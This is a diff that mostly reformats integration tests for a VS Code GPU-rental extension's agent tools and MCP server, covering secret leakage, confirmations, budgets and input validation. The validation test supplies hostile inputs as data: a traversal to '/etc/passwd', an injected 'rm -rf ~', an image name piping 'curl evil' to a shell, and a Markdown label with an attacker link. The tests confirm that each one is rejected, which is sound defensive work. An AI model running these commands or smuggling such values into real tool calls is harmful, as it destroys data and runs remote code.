@@ -75,151 +75,192 @@ describe('agent tools', () => {
     const ext = vscode.extensions.getExtension('gpurental.gpu-rental')!;
     const declared = (ext.packageJSON.contributes.languageModelTools as { name: string }[]).map((t) => t.name).sort();
     assert.ok(declared.length >= 12, `${declared.length} tools declared`);
-    const listed = (lm?.tools ?? []).map((t) => t.name).filter((n) => n.startsWith('gpuRental_')).sort();
+    const listed = (lm?.tools ?? [])
+      .map((t) => t.name)
+      .filter((n) => n.startsWith('gpuRental_'))
+      .sort();
     assert.deepEqual(listed, declared);
   });
 
-  it('read-only tools answer without a question: search (filters and the CLI query), list, details, spending, logs, price increases, SSH info; no secret in any; then a price increase rejected', async () => {
-    const services = await signedIn();
-    await simControl().seed({ instances: 1 });
-    await services.instances.refresh();
-    const inst = (await (await services.api()).listInstances()).instances[0]!;
-    const full = await (await services.api()).showInstance(inst.id);
-    const secrets = [full.jupyter_token, services.connectionState.token()];
+  it(
+    'read-only tools answer without a question: search (filters and the CLI query), list, details, spending, logs, price increases, SSH info; no secret in any; then a price increase rejected',
+    async () => {
+      const services = await signedIn();
+      await simControl().seed({ instances: 1 });
+      await services.instances.refresh();
+      const inst = (await (await services.api()).listInstances()).instances[0]!;
+      const full = await (await services.api()).showInstance(inst.id);
+      const secrets = [full.jupyter_token, services.connectionState.token()];
 
-    const offers = await call('search_offers', { gpu_names: ['RTX 4090'], num_gpus: 1, limit: 3 });
-    assert.match(offers, /RTX 4090/);
-    assert.match(offers, /\$\d+\.\d+\/h/);
-    const queried = await call('search_offers', { query: 'num_gpus=1 gpu_name=RTX_4090', limit: 2 });
-    assert.match(queried, /RTX 4090/);
-    const list = await call('list_instances', {});
-    assert.match(list, new RegExp(`\\b${inst.id}\\b`));
-    const details = await call('instance_details', { instance_id: inst.id });
-    assert.match(details, new RegExp(`\\b${inst.id}\\b`));
-    const spending = await call('spending', {});
-    assert.match(spending, /\$/);
-    const logs = await call('instance_logs', { instance_id: inst.id, tail: 20 });
-    const increase = await simControl().priceIncrease(inst.id, { gpuFactor: 1.5 });
-    const increases = await call('price_increases', {});
-    assert.match(increases, new RegExp(`\\b${increase}\\b`));
-    const ssh = await call('ssh_info', { instance_id: inst.id });
-    assert.match(ssh, /ssh /);
-    for (const text of [offers, queried, list, details, spending, logs, increases, ssh]) noSecret(text, secrets);
-    assert.equal(await creations(), 0);
-    // The one price tool: its confirmation (answered Yes by the test host), then the decision.
-    const prepared = await (await getExtensionApi()).agentTools!.prepare('gpuRental_decide_price_increase', { increase_id: increase, decision: 'reject' });
-    assert.match(prepared.confirmationMessages?.title ?? '', /^Reject price increase/);
-    assert.match(await call('decide_price_increase', { increase_id: increase, decision: 'reject' }), /reject/i);
-  }, { timeoutMs: 60_000 });
+      const offers = await call('search_offers', { gpu_names: ['RTX 4090'], num_gpus: 1, limit: 3 });
+      assert.match(offers, /RTX 4090/);
+      assert.match(offers, /\$\d+\.\d+\/h/);
+      const queried = await call('search_offers', { query: 'num_gpus=1 gpu_name=RTX_4090', limit: 2 });
+      assert.match(queried, /RTX 4090/);
+      const list = await call('list_instances', {});
+      assert.match(list, new RegExp(`\\b${inst.id}\\b`));
+      const details = await call('instance_details', { instance_id: inst.id });
+      assert.match(details, new RegExp(`\\b${inst.id}\\b`));
+      const spending = await call('spending', {});
+      assert.match(spending, /\$/);
+      const logs = await call('instance_logs', { instance_id: inst.id, tail: 20 });
+      const increase = await simControl().priceIncrease(inst.id, { gpuFactor: 1.5 });
+      const increases = await call('price_increases', {});
+      assert.match(increases, new RegExp(`\\b${increase}\\b`));
+      const ssh = await call('ssh_info', { instance_id: inst.id });
+      assert.match(ssh, /ssh /);
+      for (const text of [offers, queried, list, details, spending, logs, increases, ssh]) noSecret(text, secrets);
+      assert.equal(await creations(), 0);
+      // The one price tool: its confirmation (answered Yes by the test host), then the decision.
+      const prepared = await (await getExtensionApi()).agentTools!.prepare('gpuRental_decide_price_increase', { increase_id: increase, decision: 'reject' });
+      assert.match(prepared.confirmationMessages?.title ?? '', /^Reject price increase/);
+      assert.match(await call('decide_price_increase', { increase_id: increase, decision: 'reject' }), /reject/i);
+    },
+    { timeoutMs: 60_000 },
+  );
 
-  it('bad input is a clear tool error and sends nothing: negative, huge and unknown ids, a hostile template path and image, a budget that would break', async () => {
-    const services = await signedIn();
-    assert.match(await refusal('instance_details', { instance_id: -3 }), /instance_id must be at least 1/);
-    assert.match(await refusal('instance_logs', { instance_id: 1, tail: 1e9 }), /tail must be at most/);
-    assert.match(await refusal('instance_details', { instance_id: 987654 }), /not in this account's instance list/);
-    assert.match(await refusal('rent', { template: '../../../etc/passwd' }), /inside the workspace folder/);
-    assert.match(await refusal('rent', { template: '.gpu/x.json; rm -rf ~' }), /inside the workspace folder/);
-    assert.match(await refusal('rent', { image: 'x$(curl evil)|sh' }), /image name is not valid/);
-    assert.match(await refusal('decide_price_increase', { increase_id: 424242, decision: 'accept' }), /\b424242\b/);
-    // The budget: one cent a month cannot take a machine for an hour.
-    await vscode.workspace.getConfiguration('gpuRental').update('budget.monthly', 0.01, vscode.ConfigurationTarget.Global);
-    await waitFor(() => services.settings().budget.monthly === 0.01, 5000, 'the budget read');
-    assert.match(await refusal('rent', { template: TEMPLATE }), /monthly budget.*Nothing was sent/s);
-    assert.equal(await creations(), 0, 'nothing rented');
-    assert.equal((await simControl().requests()).filter((r) => r.method !== 'GET' && !r.path.includes('/bundles') && !r.path.includes('/ssh')).length, 0, 'nothing but reads sent');
-  }, { timeoutMs: 60_000 });
+  it(
+    'bad input is a clear tool error and sends nothing: negative, huge and unknown ids, a hostile template path and image, a budget that would break',
+    async () => {
+      const services = await signedIn();
+      assert.match(await refusal('instance_details', { instance_id: -3 }), /instance_id must be at least 1/);
+      assert.match(await refusal('instance_logs', { instance_id: 1, tail: 1e9 }), /tail must be at most/);
+      assert.match(await refusal('instance_details', { instance_id: 987654 }), /not in this account's instance list/);
+      assert.match(await refusal('rent', { template: '../../../etc/passwd' }), /inside the workspace folder/);
+      assert.match(await refusal('rent', { template: '.gpu/x.json; rm -rf ~' }), /inside the workspace folder/);
+      assert.match(await refusal('rent', { image: 'x$(curl evil)|sh' }), /image name is not valid/);
+      assert.match(await refusal('decide_price_increase', { increase_id: 424242, decision: 'accept' }), /\b424242\b/);
+      // The budget: one cent a month cannot take a machine for an hour.
+      await vscode.workspace.getConfiguration('gpuRental').update('budget.monthly', 0.01, vscode.ConfigurationTarget.Global);
+      await waitFor(() => services.settings().budget.monthly === 0.01, 5000, 'the budget read');
+      assert.match(await refusal('rent', { template: TEMPLATE }), /monthly budget.*Nothing was sent/s);
+      assert.equal(await creations(), 0, 'nothing rented');
+      assert.equal(
+        (await simControl().requests()).filter((r) => r.method !== 'GET' && !r.path.includes('/bundles') && !r.path.includes('/ssh')).length,
+        0,
+        'nothing but reads sent',
+      );
+    },
+    { timeoutMs: 60_000 },
+  );
 
-  it('confirmations: none for reads and stop; rent shows $/h, the guard and the budget; hostile label text is escaped Markdown', async () => {
-    const { services, agentTools } = await getExtensionApi();
-    assert.ok(agentTools, 'the tool API exists here');
-    await signedIn();
-    await simControl().seed({ instances: 1 });
-    const inst = (await (await services.api()).listInstances()).instances[0]!;
-    for (const [name, input] of [['list_instances', {}], ['instance_details', { instance_id: inst.id }], ['stop_instance', { instance_id: inst.id }]] as const) {
-      const p = await agentTools.prepare(`gpuRental_${name}`, input);
-      assert.equal(p.confirmationMessages, undefined, `${name} asks nothing`);
-      assert.match(String(p.invocationMessage), /^GPU Rental: /);
-    }
-    const rent = await agentTools.prepare('gpuRental_rent', { template: TEMPLATE });
-    assert.equal(rent.confirmationMessages?.title, 'Rent a GPU machine?');
-    const text = (rent.confirmationMessages?.message as vscode.MarkdownString).value;
-    assert.match(text, /\$\d+\\\.\d+\/h/, 'price per hour');
-    assert.match(text, /[Gg]uard/);
-    assert.match(text, /Budget/);
-    assert.equal(await creations(), 0, 'a confirmation rents nothing');
+  it(
+    'confirmations: none for reads and stop; rent shows $/h, the guard and the budget; hostile label text is escaped Markdown',
+    async () => {
+      const { services, agentTools } = await getExtensionApi();
+      assert.ok(agentTools, 'the tool API exists here');
+      await signedIn();
+      await simControl().seed({ instances: 1 });
+      const inst = (await (await services.api()).listInstances()).instances[0]!;
+      for (const [name, input] of [
+        ['list_instances', {}],
+        ['instance_details', { instance_id: inst.id }],
+        ['stop_instance', { instance_id: inst.id }],
+      ] as const) {
+        const p = await agentTools.prepare(`gpuRental_${name}`, input);
+        assert.equal(p.confirmationMessages, undefined, `${name} asks nothing`);
+        assert.match(String(p.invocationMessage), /^GPU Rental: /);
+      }
+      const rent = await agentTools.prepare('gpuRental_rent', { template: TEMPLATE });
+      assert.equal(rent.confirmationMessages?.title, 'Rent a GPU machine?');
+      const text = (rent.confirmationMessages?.message as vscode.MarkdownString).value;
+      assert.match(text, /\$\d+\\\.\d+\/h/, 'price per hour');
+      assert.match(text, /[Gg]uard/);
+      assert.match(text, /Budget/);
+      assert.equal(await creations(), 0, 'a confirmation rents nothing');
 
-    const hostile = '**x** [y](https://e.vil) <img src=x> `rm -rf ~`';
-    await (await services.api()).setInstanceLabel(inst.id, hostile);
-    const destroy = await agentTools.prepare('gpuRental_destroy_instance', { instance_id: inst.id, confirm: String(inst.id) });
-    assert.match(destroy.confirmationMessages?.title ?? '', /^Destroy instance/);
-    const md = (destroy.confirmationMessages?.message as vscode.MarkdownString).value;
-    assert.ok(!/(^|[^\\])[[\]<>()*`]/.test(md), `unescaped Markdown in: ${md}`);
-    assert.equal((await simControl().requests()).filter((r) => r.method === 'DELETE').length, 0, 'nothing destroyed');
-  }, { timeoutMs: 60_000 });
+      const hostile = '**x** [y](https://e.vil) <img src=x> `rm -rf ~`';
+      await (await services.api()).setInstanceLabel(inst.id, hostile);
+      const destroy = await agentTools.prepare('gpuRental_destroy_instance', { instance_id: inst.id, confirm: String(inst.id) });
+      assert.match(destroy.confirmationMessages?.title ?? '', /^Destroy instance/);
+      const md = (destroy.confirmationMessages?.message as vscode.MarkdownString).value;
+      assert.ok(!/(^|[^\\])[[\]<>()*`]/.test(md), `unescaped Markdown in: ${md}`);
+      assert.equal((await simControl().requests()).filter((r) => r.method === 'DELETE').length, 0, 'nothing destroyed');
+    },
+    { timeoutMs: 60_000 },
+  );
 
-  it('rent through invokeTool (confirmed): exactly one machine through the create flow, guard in its onstart, the row in the Instances view (screenshot); stop, start, destroy', async () => {
-    const services = await signedIn();
-    process.env.GPU_RENTAL_TEST_AGENT_POLL_MS = '250';
-    const before = await creations();
-    const result = call('rent', { template: TEMPLATE });
-    const row = await waitFor(() => services.instances.instances.find((i) => LABEL.test(i.label ?? '')), 15_000, 'the new row');
-    await simControl().finishBoot(row.id);
-    const text = await result;
-    assert.match(text, new RegExp(`Rented instance ${row.id}: running`));
-    assert.equal((await creations()) - before, 1, 'exactly one machine');
-    assert.deepEqual(readInflight(services.globalState), [], 'no rental left in flight');
-    const api = await services.api();
-    const full = await api.showInstance(row.id);
-    assert.ok(full.onstart?.includes(SCRIPT_VAR), 'the idle guard is in its onstart');
-    noSecret(text, [full.jupyter_token, services.connectionState.token()]);
-    await services.instances.refresh();
-    await vscode.commands.executeCommand('gpuRental.instances.focus');
-    assert.match(await uiCheckpoint('agent-rented'), /^(ok|skipped)$/);
+  it(
+    'rent through invokeTool (confirmed): exactly one machine through the create flow, guard in its onstart, the row in the Instances view (screenshot); stop, start, destroy',
+    async () => {
+      const services = await signedIn();
+      process.env.GPU_RENTAL_TEST_AGENT_POLL_MS = '250';
+      const before = await creations();
+      const result = call('rent', { template: TEMPLATE });
+      const row = await waitFor(() => services.instances.instances.find((i) => LABEL.test(i.label ?? '')), 15_000, 'the new row');
+      await simControl().finishBoot(row.id);
+      const text = await result;
+      assert.match(text, new RegExp(`Rented instance ${row.id}: running`));
+      assert.equal((await creations()) - before, 1, 'exactly one machine');
+      assert.deepEqual(readInflight(services.globalState), [], 'no rental left in flight');
+      const api = await services.api();
+      const full = await api.showInstance(row.id);
+      assert.ok(full.onstart?.includes(SCRIPT_VAR), 'the idle guard is in its onstart');
+      noSecret(text, [full.jupyter_token, services.connectionState.token()]);
+      await services.instances.refresh();
+      await vscode.commands.executeCommand('gpuRental.instances.focus');
+      assert.match(await uiCheckpoint('agent-rented'), /^(ok|skipped)$/);
 
-    assert.match(await call('stop_instance', { instance_id: row.id }), new RegExp(`\\b${row.id}\\b`));
-    await waitFor(async () => (await api.showInstance(row.id)).intended_status === 'stopped', 10_000, 'stopped');
-    await call('start_instance', { instance_id: row.id });
-    await waitFor(async () => (await api.showInstance(row.id)).intended_status === 'running', 10_000, 'started');
-    // Destroy needs the label or id echoed back: a wrong echo destroys nothing.
-    assert.match(await refusal('destroy_instance', { instance_id: row.id, confirm: 'something-else' }), /label|id/);
-    assert.equal((await simControl().requests()).filter((r) => r.method === 'DELETE').length, 0, 'nothing destroyed');
-    await call('destroy_instance', { instance_id: row.id, confirm: row.label! });
-    assert.equal((await api.listInstances()).instances.some((i) => i.id === row.id), false);
-    assert.equal((await creations()) - before, 1, 'still exactly one machine');
-  }, { timeoutMs: 120_000 });
+      assert.match(await call('stop_instance', { instance_id: row.id }), new RegExp(`\\b${row.id}\\b`));
+      await waitFor(async () => (await api.showInstance(row.id)).intended_status === 'stopped', 10_000, 'stopped');
+      await call('start_instance', { instance_id: row.id });
+      await waitFor(async () => (await api.showInstance(row.id)).intended_status === 'running', 10_000, 'started');
+      // Destroy needs the label or id echoed back: a wrong echo destroys nothing.
+      assert.match(await refusal('destroy_instance', { instance_id: row.id, confirm: 'something-else' }), /label|id/);
+      assert.equal((await simControl().requests()).filter((r) => r.method === 'DELETE').length, 0, 'nothing destroyed');
+      await call('destroy_instance', { instance_id: row.id, confirm: row.label! });
+      assert.equal(
+        (await api.listInstances()).instances.some((i) => i.id === row.id),
+        false,
+      );
+      assert.equal((await creations()) - before, 1, 'still exactly one machine');
+    },
+    { timeoutMs: 120_000 },
+  );
 
-  it('the MCP server for VS Code\'s agent: listed without the key; resolved, the extension host\'s Node runs dist/mcp.js with this window\'s URL and key, and it answers', async () => {
-    const { agentTools } = await getExtensionApi();
-    const services = await signedIn();
-    await simControl().seed({ instances: 1 });
-    const inst = (await (await services.api()).listInstances()).instances[0]!;
-    const def = await agentTools!.mcpServer();
-    assert.ok(def, 'a server is offered when signed in');
-    assert.equal(def.listed.env.VAST_API_KEY, undefined, 'the listed (cached) definition carries no key');
-    assert.ok(!JSON.stringify(def.listed).includes(SIM_KEY));
-    const { command, args, env } = def.resolved;
-    assert.equal(command, process.execPath);
-    assert.deepEqual(args.map((a) => a.replace(/\\/g, '/').split('/').slice(-2).join('/')), ['dist/mcp.js']);
-    assert.ok(!args.join(' ').includes(SIM_KEY), 'no key on the command line');
-    assert.equal(env.VAST_URL, simUrl());
-    assert.equal(env.VAST_API_KEY, SIM_KEY);
-    const dir = mkdtempSync(join(tmpdir(), 'gpu-rental-agent-mcp-'));
-    const client = new Client({ name: 'gpu-rental-vscode-test', version: '1.0.0' });
-    try {
-      const childEnv = Object.fromEntries(Object.entries({ PATH: process.env.PATH ?? '', HOME: dir, GPU_RENTAL_CONFIG_DIR: dir, ...env }).map(([k, v]) => [k, String(v)]));
-      await client.connect(new StdioClientTransport({ command, args, env: childEnv, stderr: 'ignore' }));
-      const names = (await client.listTools()).tools.map((t) => t.name).sort();
-      const declared = (vscode.extensions.getExtension('gpurental.gpu-rental')!.packageJSON.contributes.languageModelTools as { toolReferenceName: string }[]).map((t) => t.toolReferenceName).sort();
-      assert.deepEqual(names, declared, 'the same tools as in VS Code');
-      const r = (await client.callTool({ name: 'list_instances', arguments: {} })) as { content: { text?: string }[] };
-      const text = r.content.map((c) => c.text ?? '').join('\n');
-      assert.match(text, new RegExp(`\\b${inst.id}\\b`));
-      noSecret(text, []);
-    } finally {
-      await client.close();
-      rmSync(dir, { recursive: true, force: true });
-    }
-  }, { timeoutMs: 60_000 });
+  it(
+    "the MCP server for VS Code's agent: listed without the key; resolved, the extension host's Node runs dist/mcp.js with this window's URL and key, and it answers",
+    async () => {
+      const { agentTools } = await getExtensionApi();
+      const services = await signedIn();
+      await simControl().seed({ instances: 1 });
+      const inst = (await (await services.api()).listInstances()).instances[0]!;
+      const def = await agentTools!.mcpServer();
+      assert.ok(def, 'a server is offered when signed in');
+      assert.equal(def.listed.env.VAST_API_KEY, undefined, 'the listed (cached) definition carries no key');
+      assert.ok(!JSON.stringify(def.listed).includes(SIM_KEY));
+      const { command, args, env } = def.resolved;
+      assert.equal(command, process.execPath);
+      assert.deepEqual(
+        args.map((a) => a.replace(/\\/g, '/').split('/').slice(-2).join('/')),
+        ['dist/mcp.js'],
+      );
+      assert.ok(!args.join(' ').includes(SIM_KEY), 'no key on the command line');
+      assert.equal(env.VAST_URL, simUrl());
+      assert.equal(env.VAST_API_KEY, SIM_KEY);
+      const dir = mkdtempSync(join(tmpdir(), 'gpu-rental-agent-mcp-'));
+      const client = new Client({ name: 'gpu-rental-vscode-test', version: '1.0.0' });
+      try {
+        const childEnv = Object.fromEntries(
+          Object.entries({ PATH: process.env.PATH ?? '', HOME: dir, GPU_RENTAL_CONFIG_DIR: dir, ...env }).map(([k, v]) => [k, String(v)]),
+        );
+        await client.connect(new StdioClientTransport({ command, args, env: childEnv, stderr: 'ignore' }));
+        const names = (await client.listTools()).tools.map((t) => t.name).sort();
+        const declared = (vscode.extensions.getExtension('gpurental.gpu-rental')!.packageJSON.contributes.languageModelTools as { toolReferenceName: string }[])
+          .map((t) => t.toolReferenceName)
+          .sort();
+        assert.deepEqual(names, declared, 'the same tools as in VS Code');
+        const r = (await client.callTool({ name: 'list_instances', arguments: {} })) as { content: { text?: string }[] };
+        const text = r.content.map((c) => c.text ?? '').join('\n');
+        assert.match(text, new RegExp(`\\b${inst.id}\\b`));
+        noSecret(text, []);
+      } finally {
+        await client.close();
+        rmSync(dir, { recursive: true, force: true });
+      }
+    },
+    { timeoutMs: 60_000 },
+  );
 
   it('signed out, no MCP server is offered', async () => {
     const { agentTools } = await getExtensionApi();
